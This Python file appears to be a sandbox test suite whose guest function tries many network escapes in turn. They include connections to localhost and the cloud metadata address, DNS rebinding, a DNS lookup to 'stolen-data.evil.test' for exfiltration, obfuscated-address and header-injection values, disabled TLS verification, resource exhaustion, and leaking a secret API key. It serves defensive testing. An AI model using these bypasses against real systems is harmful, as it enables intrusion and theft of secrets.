"""What hostile code tries through the sockets that it is given, and past them, on the wire.

One function, `attempt`, runs one of many by name. What the SDK refuses by itself is tried once more where it matters
by asking the host directly, as hostile code would.
"""

# The attempts all take the same arguments.
# ruff: noqa: ARG005

import errno
import os
import socket
import ssl
from collections.abc import Callable
from typing import Any

import requests
from flux_guest import Context, function
from flux_guest._errors import HostCallError
from flux_guest._sockets import get_network

Input = dict[str, Any]
ATTEMPTS: dict[str, Callable[[Context, Input], object]] = {}


def attempt_to(run: Callable[[Context, Input], object]) -> Callable[[Context, Input], object]:
    ATTEMPTS[run.__name__] = run
    return run


def ask(name: str, *arguments: Any) -> Any:
    """Ask the host as the SDK would not."""
    return get_network().channel.call(name, list(arguments))


def connect(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), timeout=5)


def open_connection(input: Input) -> str:
    return ask("net.open", input["host"], input["port"], 5)["connection"]


# Where a connection may lead


@attempt_to
def connect_to_another_port(ctx: Context, input: Input) -> object:
    return connect(input["host"], input["forbidden_port"])


@attempt_to
def connect_to_another_port_by_address(ctx: Context, input: Input) -> object:
    return connect("127.0.0.1", input["forbidden_port"])


@attempt_to
def connect_to_another_name(ctx: Context, input: Input) -> object:
    return connect("other.test", input["port"])


@attempt_to
def ask_dns_with_a_message_in_the_name(ctx: Context, input: Input) -> object:
    socket.getaddrinfo("stolen-data.evil.test", 80)
    return connect("stolen-data.evil.test", 80)


@attempt_to
def connect_to_a_name_that_leads_inside(ctx: Context, input: Input) -> object:
    return connect("inside.test", input["port"])


@attempt_to
def connect_to_a_name_with_one_good_address(ctx: Context, input: Input) -> object:
    return connect("mixed.test", input["port"])


@attempt_to
def rebind_a_name(ctx: Context, input: Input) -> object:
    connect("rebinding.test", input["port"]).close()  # The first time it leads where it may.
    return connect("rebinding.test", input["port"])


@attempt_to
def connect_to_the_metadata_of_a_cloud(ctx: Context, input: Input) -> object:
    return connect("169.254.169.254", 80)


@attempt_to
def connect_to_a_name_of_the_metadata(ctx: Context, input: Input) -> object:
    return connect("metadata.test", 80)


def _spelled(host: str) -> Callable[[Context, Input], object]:
    return lambda ctx, input: ask("net.open", host, input["forbidden_port"], 5)


for _name, _host in {
    "decimal": "2130706433",
    "octal": "0177.0.0.1",
    "hexadecimal": "0x7f.0.0.1",
    "short": "127.1",
    "mapped": "::ffff:127.0.0.1",
    "mapped_in_hexadecimal": "::ffff:7f00:1",
    "with_a_zone": "fe80::1%lo",
    "loopback_6": "::1",
    "unspecified": "0.0.0.0",
    "documentation": "203.0.113.9",
    "other_digits": "１２７.0.0.1",
    "localhost": "localhost",
    "with_a_user": "shop.test@127.0.0.1",
    "with_a_path": "127.0.0.1/shop.test",
    "with_a_line_break": "shop.test\r\nHost: other.test",
    "with_a_null": "shop.test\0.evil.test",
    "with_a_space": "shop.test 127.0.0.1",
    "endless": "a." * 5000 + "test",
    "empty": "",
}.items():
    ATTEMPTS[f"connect_to_an_address_spelled_{_name}"] = _spelled(_host)


@attempt_to
def connect_to_no_port(ctx: Context, input: Input) -> object:
    return [ask("net.open", input["host"], port, 5) for port in (0, -1, 65536, 2**40)]


@attempt_to
def follow_a_redirect_inside(ctx: Context, input: Input) -> object:
    return requests.get(f"http://{input['host']}:{input['port']}/redirect", timeout=5)


@attempt_to
def ask_for_an_absolute_target(ctx: Context, input: Input) -> object:
    """Use a granted server as a proxy: what is asked of it is its own business, and it is none."""
    with connect(input["host"], input["port"]) as sock:
        sock.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nhost: x\r\n\r\n" % input["forbidden_port"])
        assert sock.recv(100).startswith(b"HTTP/1.1 405")
    raise PermissionError(errno.EACCES, "the server is no proxy")


# TLS


@attempt_to
def send_in_the_open_where_tls_is_granted(ctx: Context, input: Input) -> object:
    with connect(input["host"], input["tls_port"]) as sock:
        return sock.send(b"GET / HTTP/1.1\r\n\r\n")


@attempt_to
def bring_a_tls_of_ones_own(ctx: Context, input: Input) -> object:
    handle = ask("net.open", input["host"], input["tls_port"], 5)["connection"]
    return ask("net.send", handle, b"\x16\x03\x01\x02\x00\x01", 5)


@attempt_to
def ask_a_server_for_another_name(ctx: Context, input: Input) -> object:
    handle = ask("net.open", input["host"], input["tls_port"], 5)["connection"]
    return ask("net.tls", handle, {"server_name": "other.test"}, 5)


@attempt_to
def not_verify(ctx: Context, input: Input) -> object:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with connect(input["host"], input["wrong_tls_port"]) as sock:
        return context.wrap_socket(sock, server_hostname=input["host"])


@attempt_to
def not_verify_with_requests(ctx: Context, input: Input) -> object:
    return requests.get(f"https://{input['host']}:{input['wrong_tls_port']}/", verify=False, timeout=5)


@attempt_to
def trust_junk(ctx: Context, input: Input) -> object:
    handle = ask("net.open", input["host"], input["tls_port"], 5)["connection"]
    return ask("net.tls", handle, {"authorities": [b"junk"]}, 5)


@attempt_to
def trust_more_than_there_may_be(ctx: Context, input: Input) -> object:
    handle = ask("net.open", input["host"], input["tls_port"], 5)["connection"]
    return ask("net.tls", handle, {"authorities": [bytes(2**20)]}, 5)


@attempt_to
def switch_verification_off_by_an_option(ctx: Context, input: Input) -> object:
    handle = ask("net.open", input["host"], input["tls_port"], 5)["connection"]
    return ask("net.tls", handle, {"check_hostname": False}, 5)


@attempt_to
def take_what_came_in_the_open_for_what_came_under_tls(ctx: Context, input: Input) -> object:
    with connect(input["host"], input["early_port"]) as sock:
        assert sock.recv(2) == b"go"
        # The rest of what it said too early has come then, to the host or to us.
        while not sock.received and ask("net.poll", [sock.connection], 5) == []:  # type: ignore[attr-defined]
            pass
        return ssl.create_default_context().wrap_socket(sock, server_hostname=input["host"])


@attempt_to
def begin_tls_twice(ctx: Context, input: Input) -> object:
    handle = ask("net.open", input["host"], input["tls_port"], 5)["connection"]
    ask("net.tls", handle, {}, 5)
    return ask("net.tls", handle, {}, 5)


@attempt_to
def send_before_a_tls_that_failed(ctx: Context, input: Input) -> object:
    handle = ask("net.open", input["host"], input["wrong_tls_port"], 5)["connection"]
    try:
        ask("net.tls", handle, {}, 5)
    except HostCallError:
        return ask("net.send", handle, "in the open then", 5)
    return "TLS"


# Too much


@attempt_to
def open_thousands_of_connections(ctx: Context, input: Input) -> object:
    return [connect(input["host"], input["port"]) for _ in range(5000)]


@attempt_to
def send_too_much_at_once(ctx: Context, input: Input) -> object:
    return ask("net.send", open_connection(input), "x" * (2**20 + 1), 5)


@attempt_to
def send_too_much_in_all(ctx: Context, input: Input) -> object:
    handle = ask("net.open", input["host"], input["sink_port"], 5)["connection"]
    for _ in range(65):
        ask("net.send", handle, "x" * 2**20, 5)
    return "all of it"


@attempt_to
def receive_too_much_at_once(ctx: Context, input: Input) -> object:
    return ask("net.recv", open_connection(input), 2**40, 0)


@attempt_to
def receive_a_negative_number(ctx: Context, input: Input) -> object:
    return ask("net.recv", open_connection(input), -1, 0)


@attempt_to
def receive_twice_at_once(ctx: Context, input: Input) -> object:
    handle, channel = open_connection(input), get_network().channel
    answers: list[Any] = []
    for _ in range(2):
        channel.waiting[channel.send("net.recv", [handle, 1, 5])] = lambda value, error: answers.append(error)
    while not answers:
        channel.receive()
    raise OSError(errno.EINVAL, answers[0]["message"])


@attempt_to
def wait_for_thousands(ctx: Context, input: Input) -> object:
    return ask("net.poll", [open_connection(input)] * 10_000, 0)


@attempt_to
def wait_for_ever_and_a_day(ctx: Context, input: Input) -> object:
    return ask("net.open", input["host"], input["port"], 10**400)


@attempt_to
def look_up_more_names_than_there_are_addresses(ctx: Context, input: Input) -> object:
    return [socket.getaddrinfo(f"n{number}.test", 80) for number in range(10_000)]


# Handles and descriptors


@attempt_to
def use_a_handle_that_is_nobodys(ctx: Context, input: Input) -> object:
    return ask("net.send", "shop.test:80#1", "x", 5)


@attempt_to
def use_the_handle_of_another_execution(ctx: Context, input: Input) -> object:
    return ask("net.send", input["foreign_handle"], "x", 5)


@attempt_to
def use_a_handle_that_was_closed(ctx: Context, input: Input) -> object:
    handle = open_connection(input)
    ask("net.close", handle)
    return ask("net.recv", handle, 100, 0)


@attempt_to
def make_a_socket_of_the_wire(ctx: Context, input: Input) -> object:
    return socket.socket(fileno=3)


@attempt_to
def make_a_socket_of_the_wire_by_fromfd(ctx: Context, input: Input) -> object:
    return socket.fromfd(3, socket.AF_UNIX, socket.SOCK_STREAM)


@attempt_to
def read_a_detached_descriptor(ctx: Context, input: Input) -> object:
    sock = connect(input["host"], input["port"])
    return os.read(sock.detach(), 1)


@attempt_to
def write_to_a_sockets_number(ctx: Context, input: Input) -> object:
    return os.write(connect(input["host"], input["port"]).fileno(), b"x")


@attempt_to
def send_descriptors(ctx: Context, input: Input) -> object:
    sock = connect(input["host"], input["port"])
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, (3).to_bytes(4, "little"))]
    return sock.sendmsg([b"x"], rights)


@attempt_to
def send_descriptors_by_the_helper(ctx: Context, input: Input) -> object:
    return socket.send_fds(connect(input["host"], input["port"]), [b"x"], [3])


for _name, _level, _option in [
    ("bind_to_a_device", socket.SOL_SOCKET, socket.SO_BINDTODEVICE),
    ("attach_a_filter", socket.SOL_SOCKET, 26),
    ("mark_packets", socket.SOL_SOCKET, socket.SO_MARK),
    ("ask_for_credentials", socket.SOL_SOCKET, socket.SO_PASSCRED),
    ("share_a_port", socket.SOL_SOCKET, socket.SO_REUSEPORT),
    ("be_transparent", socket.IPPROTO_IP, getattr(socket, "IP_TRANSPARENT", 19)),
    ("give_ip_options", socket.IPPROTO_IP, socket.IP_OPTIONS),
]:
    ATTEMPTS[_name] = lambda ctx, input, level=_level, option=_option: socket.socket().setsockopt(level, option, 1)


# Other kinds of sockets


for _name, _made in {
    "udp": (socket.AF_INET, socket.SOCK_DGRAM, 0),
    "raw": (socket.AF_INET, socket.SOCK_RAW, 1),
    "unix": (socket.AF_UNIX, socket.SOCK_STREAM, 0),
    "netlink": (16, socket.SOCK_RAW, 0),
    "packet": (17, socket.SOCK_RAW, 0),
    "sctp": (socket.AF_INET, socket.SOCK_STREAM, 132),
}.items():
    ATTEMPTS[f"make_a_socket_of_kind_{_name}"] = lambda ctx, input, made=_made: socket.socket(*made)


@attempt_to
def make_a_pair(ctx: Context, input: Input) -> object:
    return socket.socketpair()


@attempt_to
def listen(ctx: Context, input: Input) -> object:
    return socket.create_server(("127.0.0.1", 0))


@attempt_to
def bind_to_an_address(ctx: Context, input: Input) -> object:
    return socket.create_connection((input["host"], input["port"]), source_address=("127.0.0.1", 9))


@attempt_to
def send_to_an_address(ctx: Context, input: Input) -> object:
    return socket.socket().sendto(b"x", ("127.0.0.1", input["forbidden_port"]))


# Secrets


@attempt_to
def have_a_secret_put_into_a_body(ctx: Context, input: Input) -> object:
    with connect(input["host"], input["port"]) as sock:
        return sock.send(b"POST / HTTP/1.1\r\nhost: x\r\n\r\n" + ctx.secrets["API_KEY"].encode())


@attempt_to
def have_a_secret_put_into_anything(ctx: Context, input: Input) -> object:
    with connect(input["host"], input["port"]) as sock:
        return sock.send(ctx.secrets["API_KEY"].encode())


# What is no question at all


@attempt_to
def give_arguments_of_other_kinds(ctx: Context, input: Input) -> object:
    calls = [
        ("net.open", [["127.0.0.1"], 80, None]), ("net.open", ["127.0.0.1", "80", None]), ("net.open", []),
        ("net.open", ["127.0.0.1", True, None]), ("net.send", [None, b"", None]), ("net.send", ["x", {}, None]),
        ("net.recv", ["x", 1]), ("net.poll", ["x", 1]), ("net.tls", ["x", [], 1]), ("net.close", [1]),
    ]  # fmt: skip
    refused = []
    for name, arguments in calls:
        try:
            return ask(name, *arguments)
        except HostCallError as error:
            refused.append(error.name)
    raise OSError(errno.EINVAL, " ".join(refused))


@attempt_to
def write_to_the_wire(ctx: Context, input: Input) -> object:
    os.write(3, b'["net.send","shop.test:80#1","x"]\n')
    return ask("clock.now")


@function("GET /names")
def names(ctx: Context, input: Input) -> list[str]:
    """Return what can be attempted."""
    return list(ATTEMPTS)


@function("POST /attempt")
def attempt(ctx: Context, input: Input) -> dict[str, Any]:
    """Make one attempt."""
    try:
        got = ATTEMPTS[input["name"]](ctx, input)
    except HostCallError as error:
        return {"got": None, "refused": error.name}
    except OSError as error:
        return {"got": None, "refused": errno.errorcode.get(error.errno or 0, type(error).__name__)}
    except Exception as error:
        return {"got": None, "refused": f"{type(error).__name__}: {error}"}
    return {"got": repr(got)[:200], "refused": None}
